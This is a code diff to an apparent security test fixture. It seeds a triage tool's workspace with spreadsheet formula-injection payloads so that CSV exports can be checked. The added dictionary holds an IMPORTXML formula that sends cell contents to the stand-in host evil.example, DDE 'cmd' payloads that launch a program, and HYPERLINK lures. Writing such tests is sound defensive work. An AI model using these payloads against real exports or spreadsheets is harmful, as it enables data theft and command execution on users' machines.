@@ -32,6 +32,16 @@ HOSTILE: dict[str, str] = {
     "big": "BIGTEXT " + "x" * 100_000,
 }
 ESCAPE_CHARS = ("\x1b", "\x07", "\x9b", "\x9c", "\x9d")
+# Spreadsheet formula injection (OWASP "CSV Injection"): a cell starting with = + - @ tab or CR.
+# Written as notes on the "sql" account, so every CSV export carries them.
+FORMULAS: dict[str, str] = {
+    "equals": '=IMPORTXML(CONCAT("https://evil.example/?d=",A1:A99),"//a")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": '\t=HYPERLINK("https://evil.example","click")',
+    "cr": '\r=HYPERLINK("https://evil.example","click")',
+}
 
 
 def hostile_events(seed: int = 0) -> list[dict[str, Any]]:
@@ -96,6 +106,8 @@ def build_hostile_workspace(path: Path) -> Config:
         triage.add_note(db, config, acct, "ann", text, now=AS_OF)
         triage.give_feedback(db, config, acct, "ann", "good", reason="buyer engaged", text=text,
                              now=AS_OF)  # fmt: skip
+    for text in FORMULAS.values():
+        triage.add_note(db, config, account_id("sql"), "ann", text, now=AS_OF)
     triage.claim(db, config, account_id("osc52"), "ann", now=AS_OF)
     triage.sunset(db, config, account_id("title"), "ann", reason=HOSTILE["title"], now=AS_OF)
     db.close()
